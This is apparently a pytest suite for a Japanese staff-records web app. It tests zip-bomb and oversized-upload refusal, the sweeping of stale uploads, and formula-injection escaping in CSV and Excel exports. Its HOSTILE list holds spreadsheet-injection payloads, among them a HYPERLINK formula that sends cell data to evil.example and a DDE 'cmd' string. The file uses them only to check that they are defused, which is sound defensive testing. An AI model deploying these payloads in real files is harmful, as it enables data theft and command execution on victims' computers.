"""Issue 12: uploads are bounded before parsing (zip bombs, huge tables, broken CSV), unused uploads are
swept after a day, and every export writes formula-like cells as text."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from flask import Flask

from app import tables, uploads
from app.errors import ValidationError
from app.extensions import db
from app.handover import handovers
from tests.bombs import gap_sheet, huge_sheet, wide_sheet, write_xlsx
from tests.conftest import csrf_token, login
from tests.helpers import user

ROOT = Path(__file__).resolve().parents[1]
COLUMNS = ["職員番号", "氏名", "異動前所属", "異動後所属", "職", "発令日"]


@pytest.fixture(scope="session")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """About 1 MB on disk, 300 MB of sheet XML once inflated."""
    return write_xlsx(tmp_path_factory.mktemp("bomb") / "jinji.xlsx", huge_sheet(300 * 1024 * 1024))


def small_xlsx(path: Path) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(COLUMNS)
    wb.active.append(["100004", "田中 陽子", "青葉区 保険年金課", "泉区 保険年金課", "担当", "2027-04-01"])
    wb.save(path)
    return path


def test_zip_bomb_is_refused_within_2s_and_under_100mb(bomb: Path, tmp_path: Path) -> None:
    assert bomb.stat().st_size < 2 * 1024 * 1024
    out = subprocess.run([sys.executable, "-m", "tests.upload_probe", str(bomb), str(small_xlsx(tmp_path / "ok.xlsx"))],
                         cwd=ROOT, capture_output=True, text=True, timeout=300, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert out.returncode == 0, out.stderr[-3000:]
    result = json.loads(out.stdout.strip().splitlines()[-1])
    print(f"zip bomb ({bomb.stat().st_size // 1024} KB → 300 MB): {result['seconds']} s, peak RSS rise "
          f"{result['rss_rise_mb']} MB (peak {result['peak_rss_mb']} MB), page {result['page_kb']} KB")
    assert result["status"] == 400
    assert "圧縮爆弾の可能性があるため取り込みません" in result["message"]
    assert result["seconds"] < 2.0
    assert result["rss_rise_mb"] < 100
    assert result["page_kb"] < 100


def test_lying_zip_directory_is_caught_by_the_reader(tmp_path: Path) -> None:
    """The directory claims 1 KB; zipfile never inflates past the declared size, so the sheet is cut off
    and the file reads as damaged — quickly."""
    liar = write_xlsx(tmp_path / "liar.xlsx", huge_sheet(50 * 1024 * 1024), declared_size=1000)
    t = time.perf_counter()
    with pytest.raises(ValidationError) as err:
        tables.read_table(liar, COLUMNS)
    assert time.perf_counter() - t < 2.0
    assert "Excelファイルを読めません" in err.value.message


def test_million_row_gap_and_16384_columns_are_refused(tmp_path: Path) -> None:
    t = time.perf_counter()
    with pytest.raises(ValidationError) as err:
        tables.read_table(write_xlsx(tmp_path / "gap.xlsx", gap_sheet()), COLUMNS)
    assert "行数が上限（30,000行）を超えています" in err.value.message
    assert time.perf_counter() - t < 5.0
    with pytest.raises(ValidationError) as err:
        tables.read_table(write_xlsx(tmp_path / "wide.xlsx", wide_sheet()), COLUMNS)
    assert "1行目: 列が多すぎます" in err.value.message


def test_limits_on_rows_cells_size_and_time(tmp_path: Path) -> None:
    limits = tables.Limits(rows=3, cell_chars=5, file_bytes=2000, seconds=0.0)
    path = tmp_path / "t.csv"
    path.write_text("a,b\n1,2\n3,4\n5,6\n7,8\n", encoding="utf-8")
    with pytest.raises(ValidationError, match="行数が上限（3行）"):
        tables.read_table(path, ["a"], limits=limits)
    path.write_bytes(b"a,b\n" + b"1,2\n" * 1000)
    with pytest.raises(ValidationError, match="ファイルが大きすぎます"):
        tables.read_table(path, ["a"], limits=limits)
    path.write_text("a\n" + "x\n" * 600, encoding="utf-8")
    with pytest.raises(ValidationError, match="秒を超えたため中止しました"):
        tables.read_table(path, ["a"], limits=tables.Limits(seconds=0.0))
    wb_path = tmp_path / "long.xlsx"
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["a"])
    wb.active.append(["123456"])
    wb.save(wb_path)
    with pytest.raises(ValidationError, match="2行目: セルの文字数が上限"):
        tables.read_table(wb_path, ["a"], limits=tables.Limits(cell_chars=5))


@pytest.mark.parametrize(("content", "expected"), [
    (b'a,b\n"' + b"x" * 200_000 + b'",1\n', "2行目: セルの文字数が多すぎます"),
    (b"a,b\n1,\x002\n", "2行目: 制御文字（NUL）"),
    (b"a\n\x81\x20\x81\x20", "CSVの文字コードを読み取れません"),
    (b"", "ファイルが空です"),
])
def test_broken_csv_gets_a_japanese_message(tmp_path: Path, content: bytes, expected: str) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(content)
    with pytest.raises(ValidationError) as err:
        tables.read_table(path, ["a"])
    assert expected in err.value.message


def test_excel_cp932_csv_is_read(tmp_path: Path) -> None:
    path = tmp_path / "sjis.csv"
    path.write_bytes("職員番号,氏名\r\n100004,田中 陽子\r\n100005,髙橋 誠\r\n".encode("cp932"))
    assert tables.read_table(path, ["職員番号", "氏名"]) == [{"職員番号": "100004", "氏名": "田中 陽子"},
                                                          {"職員番号": "100005", "氏名": "髙橋 誠"}]


@pytest.mark.usefixtures("demo_users")
def test_bomb_upload_page_and_file_removed(app: Flask, client, bomb: Path) -> None:
    login(client, "admin")
    with open(bomb, "rb") as f:
        resp = client.post("/admin/staff-import", data={"file": (f, "jinji.xlsx"), "csrf_token": csrf_token(client, "/dashboard")},
                           content_type="multipart/form-data")
    resp = client.get(resp.headers["Location"])
    assert resp.status_code == 400 and "圧縮爆弾" in resp.get_data(as_text=True)
    assert list(uploads.upload_dir().iterdir()) == []  # a refused file is not kept


@pytest.mark.usefixtures("demo_users")
def test_unused_uploads_are_swept_after_a_day(app: Flask, client, tmp_path: Path) -> None:
    login(client, "admin")
    path = small_xlsx(tmp_path / "ok.xlsx")
    with open(path, "rb") as f:
        resp = client.post("/admin/staff-import", data={"file": (f, "ok.xlsx"), "csrf_token": csrf_token(client, "/dashboard")},
                           content_type="multipart/form-data")
    token_url = resp.headers["Location"].split("?")[0]
    (stored,) = uploads.upload_dir().iterdir()
    assert client.get(token_url).status_code == 200  # previewed, not applied: kept for now
    os.utime(stored, (time.time() - 23 * 3600,) * 2)
    assert uploads.sweep() == 0 and stored.exists()
    os.utime(stored, (time.time() - 25 * 3600,) * 2)
    assert uploads.sweep() == 1 and not stored.exists()
    resp = client.get(token_url)
    assert resp.status_code == 404 and "1日を過ぎて削除されました" in resp.get_data(as_text=True)
    # The sweep also runs at every new upload, and from the command line.
    (uploads.upload_dir() / "staff-0123456789abcdef01234567.csv").write_text("x")
    os.utime(uploads.upload_dir() / "staff-0123456789abcdef01234567.csv", (time.time() - 90000,) * 2)
    result = app.test_cli_runner().invoke(args=["uploads", "sweep"])
    assert result.exit_code == 0 and "1件" in result.output


# --- exports: one writer, no formulas ------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"詳細はこちら")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


def test_writer_makes_every_formula_like_cell_text() -> None:
    from openpyxl import load_workbook

    rows = [["見出し"], HOSTILE, [1, -5, 2.5, None, "普通の文字"]]
    data = list(csv.reader(io.StringIO(tables.to_csv(rows).decode("utf-8-sig"))))
    assert data[1] == ["'" + v for v in HOSTILE]
    assert data[2] == ["1", "-5", "2.5", "", "普通の文字"]  # numbers stay numbers
    ws = load_workbook(io.BytesIO(tables.to_xlsx(rows))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    # Shown as typed; a CR becomes the one line break Excel shows.
    assert [ws.cell(2, i + 1).value for i in range(len(HOSTILE))] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(ws.cell(2, i + 1).quotePrefix for i in range(len(HOSTILE)))
    assert ws.cell(3, 2).value == -5 and ws.cell(3, 2).data_type == "n"


@pytest.mark.usefixtures("demo_users")
def test_usage_export_and_handover_excel_hold_no_formula(app: Flask) -> None:
    from openpyxl import load_workbook

    ward = app.test_client()
    login(ward, "aoba.tanto")
    for q in HOSTILE[:4]:
        assert ward.get("/search", query_string={"q": q}).status_code == 200
    hq = app.test_client()
    login(hq, "admin")
    text = hq.get("/notices/usage?format=csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    logged = [c for c in cells if any(h in c for h in ("HYPERLINK", "cmd|", "SUM(A1)", "-2+3"))]
    assert logged and all(c.startswith("'") for c in logged), logged
    ws = load_workbook(io.BytesIO(hq.get("/notices/usage?format=xlsx").data)).active
    values = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert any("HYPERLINK" in str(c.value) for c in values)
    assert not [c for c in values if c.data_type == "f"]

    handover = handovers.start(db.session, user("hq.tanto"), user("hq.tanto"))
    handovers.save(db.session, user("hq.tanto"), handover, duties=HOSTILE[0], concerns=HOSTILE[3], default_successor_id=None,
            notes={}, successors={})
    db.session.commit()
    owner = app.test_client()
    login(owner, "hq.tanto")
    ws = load_workbook(io.BytesIO(owner.get(f"/handovers/{handover.id}.xlsx").data)).active
    assert ws["A1"].value == "事務引継書" and ws["A1"].font.b
    assert ws["B3"].value == HOSTILE[0] and ws["B3"].data_type == "s"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
